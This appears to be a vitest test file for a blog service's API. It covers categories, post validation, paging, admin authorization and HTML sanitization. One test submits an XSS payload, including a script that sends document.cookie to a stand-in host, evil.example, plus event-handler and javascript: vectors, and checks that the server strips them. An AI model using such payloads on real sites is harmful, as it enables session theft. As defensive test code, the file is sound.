import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BlogPost } from '../src/entities/blog-post.entity.js';
import { Author } from '../src/entities/author.entity.js';
import { startContent, type Content } from './service.js';

let c: Content;

beforeAll(async () => {
  c = await startContent();
});
afterAll(async () => c?.close());

const send = (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: object, headers: Record<string, string> = {}) =>
  c.api.send({ method, url, payload, headers });
const asAdmin = (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: object) => send(method, url, payload, c.tokens.admin);

async function category(name: string, slug?: string): Promise<{ id: string; slug: string }> {
  const res = await asAdmin('POST', '/blog/admin/categories', { name, slug });
  expect(res.statusCode).toBe(201);
  return res.json().category;
}

describe('blog categories', () => {
  it('derives the slug from the name, lists them publicly, refuses blanks and duplicates with the spec’s message', async () => {
    expect((await category('Product News!')).slug).toBe('product-news');
    expect((await category('Tips', 'How To Tips')).slug).toBe('how-to-tips');
    for (const payload of [{ name: '   ' }, { name: '!!!' }, {}]) {
      const res = await asAdmin('POST', '/blog/admin/categories', payload);
      expect(res.statusCode).toBe(400);
      expect(res.json().message).toBe('Category name and slug are required');
    }
    const twice = await asAdmin('POST', '/blog/admin/categories', { name: 'product news' });
    expect(twice.statusCode).toBe(409);
    expect(twice.json().message).toBe('A category with this slug already exists.');

    const listed = await send('GET', '/blog/categories');
    expect(listed.statusCode).toBe(200);
    expect(listed.json().categories.map((x: { slug: string }) => x.slug)).toEqual(['product-news', 'how-to-tips']); // by name
  });
});

describe('blog posts', () => {
  it('stores and serves an XSS payload sanitized, with the author, categories and excerpt fallback', async () => {
    await c.publish('auth.user.registered', {
      userId: c.adminId, username: 'editor.anna', email: 'anna@example.com', role: 'admin', newsletterSubscribe: false, emailVerified: true,
    });
    await expect.poll(() => c.ctx.dataSource.getRepository(Author).findOneBy({ userId: c.adminId }), { timeout: 5000 }).not.toBeNull();
    const cat = await category('Security');
    const payload =
      '<p onmouseover="alert(1)">Safe <em>text</em></p><script>fetch("https://evil.example?c="+document.cookie)</script>' +
      '<a href="javascript:alert(2)">click</a><img src="https://img.example/a.png" onerror="alert(3)"><svg onload="alert(4)"></svg>';
    const created = await asAdmin('POST', '/blog/admin/posts', { title: 'Hello, XSS World!', content: payload, is_published: true, categories: [cat.id] });
    expect(created.statusCode).toBe(201);
    const post = created.json().post;
    const clean = '<p>Safe <em>text</em></p><a>click</a><img src="https://img.example/a.png" />';
    expect(post).toMatchObject({
      title: 'Hello, XSS World!',
      slug: 'hello-xss-world',
      content: clean,
      excerpt: 'Safe text click',
      featured_image: null,
      is_published: true,
      categories: [{ id: cat.id, name: 'Security', slug: 'security', description: null }],
      author: { username: 'editor.anna' },
    });
    expect(post.published_at).not.toBeNull();
    const stored = await c.ctx.dataSource.getRepository(BlogPost).findOneByOrFail({ id: post.id });
    expect(stored.content).toBe(clean);

    for (const key of [post.id, post.slug]) {
      const served = await send('GET', `/blog/posts/${key}`);
      expect(served.statusCode).toBe(200);
      expect(served.json().post.content).toBe(clean);
      expect(served.body).not.toMatch(/<script|onerror=|onmouseover=|javascript:|onload=|<svg/);
    }
  });

  it('requires title, slug and content, checks the image URL and categories, and keeps slugs unique', async () => {
    for (const payload of [
      { content: '<p>x</p>' },
      { title: '  ', content: '<p>x</p>' },
      { title: 'No content' },
      { title: 'Only script', content: '<script>alert(1)</script>' },
      { title: '???', content: '<p>x</p>' },
    ]) {
      const res = await asAdmin('POST', '/blog/admin/posts', payload);
      expect(res.statusCode, JSON.stringify(payload)).toBe(400);
      expect(res.json().message).toBe('Title, slug and content are required');
    }
    const image = await asAdmin('POST', '/blog/admin/posts', { title: 'Img', content: '<p>x</p>', featured_image: 'javascript:alert(1)' });
    expect(image.statusCode).toBe(400);
    expect(image.json().message).toBe('The featured image must be an http(s) URL.');
    const unknown = await asAdmin('POST', '/blog/admin/posts', { title: 'Cats', content: '<p>x</p>', categories: ['0b6f7c1e-1d1a-4c55-9a57-8b0c2b1f9a10'] });
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json().message).toBe('One or more categories do not exist.');

    const first = await asAdmin('POST', '/blog/admin/posts', { title: 'Twice', slug: 'My Custom Slug', content: '<p>x</p>', excerpt: 'Short', featured_image: 'https://img.example/t.png' });
    expect(first.json().post).toMatchObject({ slug: 'my-custom-slug', excerpt: 'Short', featured_image: 'https://img.example/t.png', is_published: false, published_at: null });
    const dup = await asAdmin('POST', '/blog/admin/posts', { title: 'Other', slug: 'my-custom-slug', content: '<p>y</p>' });
    expect(dup.statusCode).toBe(409);
    expect(dup.json().message).toBe('A blog post with this slug already exists.');
  });

  it('pages published posts by 10 with total_pages, filters by category slug and hides drafts from the public', async () => {
    const paged = await category('Paged');
    for (let i = 1; i <= 12; i += 1) {
      await asAdmin('POST', '/blog/admin/posts', { title: `Paged post ${i}`, content: `<p>Number ${i}</p>`, is_published: true, categories: [paged.id] });
    }
    const draft = (await asAdmin('POST', '/blog/admin/posts', { title: 'Paged draft', content: '<p>d</p>', categories: [paged.id] })).json().post;

    const page1 = (await send('GET', '/blog/posts?category=paged')).json();
    expect(page1.posts).toHaveLength(10);
    expect(page1.pagination).toEqual({ page: 1, per_page: 10, total: 12, total_pages: 2 });
    expect(page1.posts[0].title).toBe('Paged post 12'); // newest first
    const page2 = (await send('GET', '/blog/posts?category=paged&page=2')).json();
    expect(page2.posts.map((p: { title: string }) => p.title)).toEqual(['Paged post 2', 'Paged post 1']);
    expect(page2.posts[0].categories.map((x: { slug: string }) => x.slug)).toEqual(['paged']);

    const all = (await send('GET', '/blog/posts?per_page=50')).json();
    expect(all.pagination.total).toBe(13); // 12 here and the XSS post; no drafts
    expect(all.posts.some((p: { slug: string }) => p.slug === draft.slug)).toBe(false);
    expect((await send('GET', '/blog/posts?category=nothing-here')).json()).toEqual({ posts: [], pagination: { page: 1, per_page: 10, total: 0, total_pages: 1 } });
    expect((await send('GET', `/blog/posts?category=${'x'.repeat(300)}`)).json().posts).toEqual([]);

    const hidden = await send('GET', `/blog/posts/${draft.slug}`);
    expect(hidden.statusCode).toBe(404);
    expect(hidden.json().message).toBe('Blog post not found');
    expect((await send('GET', `/blog/posts/${draft.slug}`, undefined, c.tokens.admin)).statusCode).toBe(200);
    expect((await send('GET', '/blog/posts?page=0')).statusCode).toBe(400);
  });

  it('lists, updates and deletes for admins, with the published filter and paging', async () => {
    const drafts = (await asAdmin('GET', '/blog/admin/posts?published=false&per_page=2')).json();
    expect(drafts.posts.every((p: { is_published: boolean }) => !p.is_published)).toBe(true);
    expect(drafts.posts).toHaveLength(2);
    expect(drafts.pagination.total_pages).toBe(Math.ceil(drafts.pagination.total / 2));
    const published = (await asAdmin('GET', '/blog/admin/posts?published=true')).json();
    expect(published.pagination.total).toBe(13);
    expect((await asAdmin('GET', '/blog/admin/posts?published=true&page=2&size=5')).json().pagination).toEqual({ page: 2, per_page: 5, total: 13, total_pages: 3 });

    const post = (await asAdmin('POST', '/blog/admin/posts', { title: 'Edit me', content: '<p>v1</p>' })).json().post;
    const updated = await asAdmin('PUT', `/blog/admin/posts/${post.id}`, { title: 'Edited', slug: '', content: '<p onclick="x()">v2</p>', is_published: true });
    expect(updated.statusCode).toBe(200);
    expect(updated.json().post).toMatchObject({ title: 'Edited', slug: 'edited', content: '<p>v2</p>', is_published: true });
    const publishedAt = updated.json().post.published_at;
    expect(publishedAt).not.toBeNull();
    // Editing a published post keeps its publication time; unpublishing clears it.
    expect((await asAdmin('PUT', `/blog/admin/posts/${post.id}`, { excerpt: 'New' })).json().post).toMatchObject({ published_at: publishedAt, excerpt: 'New' });
    expect((await asAdmin('PUT', `/blog/admin/posts/${post.id}`, { is_published: false })).json().post.published_at).toBeNull();
    const blank = await asAdmin('PUT', `/blog/admin/posts/${post.id}`, { title: ' ' });
    expect(blank.statusCode).toBe(400);
    expect(blank.json().message).toBe('Title, slug and content are required');

    const deleted = await asAdmin('DELETE', `/blog/admin/posts/${post.id}`);
    expect(deleted.json()).toEqual({ success: true, message: 'Blog post deleted.' });
    expect((await asAdmin('GET', `/blog/posts/${post.id}`)).statusCode).toBe(404);
    expect((await asAdmin('DELETE', `/blog/admin/posts/${post.id}`)).statusCode).toBe(404);
    expect((await asAdmin('PUT', `/blog/admin/posts/${post.id}`, { title: 'x' })).statusCode).toBe(404);
  });

  it('takes a deleted category off its posts', async () => {
    const cat = await category('Short lived');
    const post = (await asAdmin('POST', '/blog/admin/posts', { title: 'Tagged', content: '<p>x</p>', is_published: true, categories: [cat.id] })).json().post;
    expect((await asAdmin('DELETE', `/blog/admin/categories/${cat.id}`)).json()).toEqual({ success: true, message: 'Category deleted.' });
    expect((await send('GET', `/blog/posts/${post.slug}`)).json().post.categories).toEqual([]);
    const again = await asAdmin('DELETE', `/blog/admin/categories/${cat.id}`);
    expect(again.statusCode).toBe(404);
    expect(again.json().message).toBe('Category not found');
  });

  it('answers malformed input with the field’s message (400) and ids that cannot exist with 404, never a 500', async () => {
    const cases: Array<[string, 'GET' | 'POST' | 'PUT' | 'DELETE', string, object | undefined, number, string]> = [
      ['no body', 'POST', '/blog/admin/posts', undefined, 400, 'Title, slug and content are required'],
      ['a list for a body', 'POST', '/blog/admin/posts', [], 400, 'Title, slug and content are required'],
      ['a long title', 'POST', '/blog/admin/posts', { title: 't'.repeat(301), content: '<p>x</p>' }, 400, 'Title must be 300 characters or less.'],
      ['a long excerpt', 'POST', '/blog/admin/posts', { title: 't', content: '<p>x</p>', excerpt: 'e'.repeat(2001) }, 400, 'Excerpt must be 2000 characters or less.'],
      ['a category id that is no id', 'POST', '/blog/admin/posts', { title: 't', content: '<p>x</p>', categories: ['nope'] }, 400, 'One or more categories do not exist.'],
      ['categories not a list', 'POST', '/blog/admin/posts', { title: 't', content: '<p>x</p>', categories: 'nope' }, 400, 'One or more categories do not exist.'],
      ['is_published as text', 'POST', '/blog/admin/posts', { title: 't', content: '<p>x</p>', is_published: 'yes' }, 400, 'is_published must be true or false.'],
      ['a category without a body', 'POST', '/blog/admin/categories', undefined, 400, 'Category name and slug are required'],
      ['a long category name', 'POST', '/blog/admin/categories', { name: 'n'.repeat(201) }, 400, 'Category name must be 200 characters or less.'],
      ['page 0', 'GET', '/blog/posts?page=0', undefined, 400, 'page must be a whole number of at least 1.'],
      ['page in words', 'GET', '/blog/posts?page=two', undefined, 400, 'page must be a whole number of at least 1.'],
      ['a huge page size', 'GET', '/blog/posts?per_page=1000', undefined, 400, 'The page size must be a whole number from 1 to 100.'],
      ['a bad size', 'GET', '/blog/admin/posts?size=0', undefined, 400, 'The page size must be a whole number from 1 to 100.'],
      ['a bad filter', 'GET', '/blog/admin/posts?published=yes', undefined, 400, 'The filter must be true or false.'],
      ['two categories', 'GET', '/blog/posts?category=a&category=b', undefined, 400, 'category must be one category slug.'],
      ['update of an id that is no id', 'PUT', '/blog/admin/posts/42', { title: 'x' }, 404, 'Blog post not found'],
      ['delete of an id that is no id', 'DELETE', '/blog/admin/posts/42', undefined, 404, 'Blog post not found'],
      ['delete of a category id that is no id', 'DELETE', '/blog/admin/categories/42', undefined, 404, 'Category not found'],
      ['a post that is not there', 'GET', '/blog/posts/no-such-post', undefined, 404, 'Blog post not found'],
    ];
    for (const [label, method, url, payload, status, message] of cases) {
      const res = await asAdmin(method, url, payload);
      expect(res.statusCode, label).toBe(status);
      expect(res.json().message, label).toBe(message);
    }
  });

  it('derives a slug of at most 100 characters from a long title, so the post can be read by its slug', async () => {
    const title = `${'A very long title about planning '.repeat(8)}end`;
    const created = await asAdmin('POST', '/blog/admin/posts', { title, content: '<p>long</p>', is_published: true });
    expect(created.statusCode).toBe(201);
    const { slug } = created.json().post;
    expect(slug.length).toBeLessThanOrEqual(100);
    expect(slug.startsWith('a-very-long-title-about-planning-a-very-long')).toBe(true);
    const read = await send('GET', `/blog/posts/${slug}`);
    expect(read.statusCode).toBe(200);
    expect(read.json().post.title).toBe(title);
    await asAdmin('DELETE', `/blog/admin/posts/${created.json().post.id}`);
  });

  it('refuses every admin route to non-admins (403) and to anonymous callers (401)', async () => {
    const id = '0b6f7c1e-1d1a-4c55-9a57-8b0c2b1f9a10';
    const routes: Array<['GET' | 'POST' | 'PUT' | 'DELETE', string, object?]> = [
      ['GET', '/blog/admin/posts'],
      ['POST', '/blog/admin/posts', { title: 't', content: '<p>c</p>' }],
      ['PUT', `/blog/admin/posts/${id}`, { title: 't' }],
      ['DELETE', `/blog/admin/posts/${id}`],
      ['POST', '/blog/admin/categories', { name: 'n' }],
      ['DELETE', `/blog/admin/categories/${id}`],
    ];
    for (const [method, url, payload] of routes) {
      const user = await send(method, url, payload, c.tokens.user);
      expect(user.statusCode, `${method} ${url}`).toBe(403);
      expect(user.json().message).toBe('Unauthorized: Admin access required');
      expect((await send(method, url, payload)).statusCode, `${method} ${url}`).toBe(401);
    }
  });
});

describe('the API document', () => {
  it('describes the blog and newsletter routes', async () => {
    const res = await c.app.inject({ method: 'GET', url: '/openapi.json' });
    expect(res.statusCode).toBe(200);
    const paths = Object.keys(res.json().paths);
    expect(paths).toEqual(expect.arrayContaining(['/blog/posts', '/blog/admin/posts', '/newsletter/subscribe', '/newsletter/admin/newsletters/{id}/send']));
  });
});
